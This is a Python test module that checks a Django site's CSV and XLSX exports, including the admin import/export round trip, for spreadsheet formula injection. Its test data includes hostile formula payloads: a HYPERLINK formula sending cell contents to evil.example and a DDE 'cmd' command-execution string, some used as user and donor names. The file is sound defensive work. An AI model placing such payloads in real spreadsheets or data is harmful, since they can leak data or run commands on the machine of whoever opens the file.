"""No exported CSV or XLSX cell can run as a formula.

A text cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage
return) is run as a formula by spreadsheet programs: an organisation named
``=HYPERLINK("http://evil/?"&A1)`` would leak the sheet, ``=cmd|' /C calc'!A0``
worse. Every export writes such text with an apostrophe in front
(``stakeholders.spreadsheets``); a number such as ``-12.50`` is left as it is.

The hostile data of ``test_hostile_input`` gives every text field a formula start;
then every export the site offers is read — those of the URL map (``ROUTES``, and
any new URL that needs no id), each meeting table in both formats, and the admin's
export of every importable model — as every user allowed to read it. In a CSV no
cell starts with a formula character unless it is a plain number; in an XLSX no
cell is a formula and no text cell starts with one. An admin export imports back
to the original text.
"""

from __future__ import annotations

import csv
import io
import re

import pytest
import tablib
from django.contrib import admin
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from stakeholders.models import Organisation
from stakeholders.spreadsheets import (
    FORMULA_STARTS,
    cell,
    neutralise,
    printable,
    safe_dataset,
    unneutralise,
)
from tests import factories as f
from tests.jointprogramme import test_hostile_input as hostile_data
from tests.jointprogramme.test_admin import export_form
from tests.jointprogramme.test_site_access import ROUTES, url_names

APPS, KNOWN_500 = hostile_data.APPS, hostile_data.KNOWN_500
# The hostile data and a superuser's client, as fixtures of this module too.
hostile = hostile_data.hostile
superuser_client = hostile_data.superuser_client

PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


# The rule itself


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_text_is_neutralised_and_reads_back(text):
    assert neutralise(text) == "'" + text
    assert unneutralise(neutralise(text)) == text


@pytest.mark.parametrize("text", ["Embassy of Norway", "'quoted'", "", "1,250.00", "Ђорђе"])
def test_other_text_is_left_alone(text):
    assert neutralise(text) == text
    assert unneutralise(text) == text


def test_cells_are_made_printable_for_xlsx():
    assert (
        printable("line\x0bbreak\x0cpage\x01bell\ttab\nnew")
        == "line\nbreak\npage\ufffdbell\ttab\nnew"
    )
    assert cell("=\x0b1") == "'=\n1"
    assert cell(5) == 5 and cell(None) is None


def test_safe_dataset_neutralises_headers_and_text_cells_only():
    data = tablib.Dataset(headers=["=Name", "Amount"], title="Sheet")
    data.append(["=1+1", 5])
    safe = safe_dataset(data)
    assert safe.headers == ["'=Name", "Amount"]
    assert list(safe[0]) == ["'=1+1", 5]
    assert safe.title == "Sheet"


# Checking a file


def formula_cells_in_csv(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [
        value
        for row in csv.reader(io.StringIO(text))
        for value in row
        if value.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(value)
    ]


def formula_cells_in_xlsx(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for value in row:
                if value.data_type == "f":
                    found.append(f"{sheet.title}!{value.coordinate} formula {value.value!r}")
                elif isinstance(value.value, str) and value.value.startswith(FORMULA_STARTS):
                    found.append(f"{sheet.title}!{value.coordinate} {value.value!r}")
    return found


def formula_cells(response) -> list[str] | None:
    kind = response.get("Content-Type", "")
    if kind.startswith("text/csv"):
        return formula_cells_in_csv(response.content)
    if "spreadsheetml" in kind:
        return formula_cells_in_xlsx(response.content)
    return None


def test_the_checks_see_a_formula():
    data = tablib.Dataset(headers=["a"])
    data.append(["=1+1"])
    assert formula_cells_in_csv(data.export("csv").encode()) == ["=1+1"]
    assert formula_cells_in_xlsx(data.export("xlsx"))  # openpyxl writes it as a formula
    assert formula_cells_in_csv(b"a\n-12.50\n") == []  # a number is no formula


# Every export of the site


def export_requests(objects):
    """(actor, url) for every spreadsheet the pages offer."""
    for name, route in sorted(ROUTES.items()):
        if not route.get or name in KNOWN_500:
            continue
        url = reverse(name, kwargs=route.kwargs(objects))
        for actor in sorted(route.get - {"outsider"}, key=str):
            yield actor, url
    for name, path in sorted(url_names().items()):
        if name in ROUTES or name in KNOWN_500 or "<" in path:
            continue
        for actor in ("manager", "coordinator", "donor"):
            yield actor, reverse(name)
    for table in ("attendance", "feedback", "actions"):
        for fmt in ("csv", "xlsx"):
            kwargs = {"pk": objects["meeting"].pk, "table": table, "fmt": fmt}
            yield "manager", reverse("meetings:export", kwargs=kwargs)


@pytest.fixture
def formula_world(world, hostile):
    """The hostile data, plus a user whose name is a formula proposing an alignment
    and a donor named like one pledging (usernames may hold - + @ . _)."""
    proposer = f.UserFactory(username="-2+3", first_name="=1+1", last_name="@SUM(1)")
    alignment = hostile.objects["alignment"]
    alignment.proposed_by = proposer
    alignment.reviewed_by = proposer
    alignment.save()
    donor = f.DonorFactory(name='=HYPERLINK("http://evil.example/","x")')
    f.PledgeFactory(programme=world.programme, donor=donor, note="@note", reference="-ref")
    return hostile


def test_no_exported_cell_runs_as_a_formula(world, formula_world):
    checked, problems = 0, []
    clients = {}
    for actor, url in export_requests(formula_world.objects):
        client = clients.setdefault(actor, world.client_for(actor))
        client.raise_request_exception = False
        response = client.get(url)
        if response.status_code >= 500:
            problems.append(f"GET {url} as {actor}: {response.status_code}")
            continue
        found = formula_cells(response)
        if found is None:
            continue
        checked += 1
        problems += [f"GET {url} as {actor}: {cell_}" for cell_ in found[:5]]
    assert problems == []
    assert checked >= 16  # funding, installation, meetings, results... in CSV and XLSX


def import_export_models():
    return [
        m
        for m in admin.site._registry
        if m._meta.app_label in APPS and hasattr(admin.site._registry[m], "import_action")
    ]


@pytest.mark.parametrize("file_format", ["0", "1"], ids=["csv", "xlsx"])
@pytest.mark.parametrize("model", import_export_models(), ids=lambda m: m.__name__)
def test_no_admin_exported_cell_runs_as_a_formula(
    world, formula_world, superuser_client, model, file_format
):
    opts = model._meta
    response = superuser_client.post(
        reverse(f"admin:{opts.app_label}_{opts.model_name}_export"),
        export_form(model, file_format),
    )
    assert response.status_code == 200
    assert formula_cells(response) == []


@pytest.mark.parametrize("file_format", ["0", "1"], ids=["csv", "xlsx"])
def test_admin_export_imports_back_to_the_original_text(superuser_client, file_format):
    names = FORMULAS[:5]  # leading tabs and line breaks are dropped by every import
    for name in names:
        f.OrganisationFactory(name=name, description="=" + name)
    export = superuser_client.post(
        reverse("admin:stakeholders_organisation_export"), export_form(Organisation, file_format)
    )
    assert formula_cells(export) == []
    originals = {o.name: o.description for o in Organisation.objects.filter(name__in=names)}
    Organisation.objects.filter(name__in=names).delete()

    extension = "xlsx" if file_format == "1" else "csv"
    preview = superuser_client.post(
        reverse("admin:stakeholders_organisation_import"),
        {
            "resource": "0",
            "format": file_format,
            "import_file": SimpleUploadedFile(f"organisations.{extension}", export.content),
        },
    )
    assert "confirm_form" in preview.context, preview.context["form"].errors
    superuser_client.post(
        reverse("admin:stakeholders_organisation_process_import"),
        preview.context["confirm_form"].initial,
    )
    imported = {o.name: o.description for o in Organisation.objects.filter(name__in=names)}
    assert imported == originals


def test_usernames_that_look_like_formulas_are_neutralised_in_alignment_export(
    world, formula_world, superuser_client
):
    from outcomes.models import Alignment

    response = superuser_client.post(
        reverse("admin:outcomes_alignment_export"), export_form(Alignment, "0")
    )
    text = response.content.decode("utf-8-sig")
    assert "'-2+3" in text
    assert get_user_model().objects.filter(username="-2+3").exists()
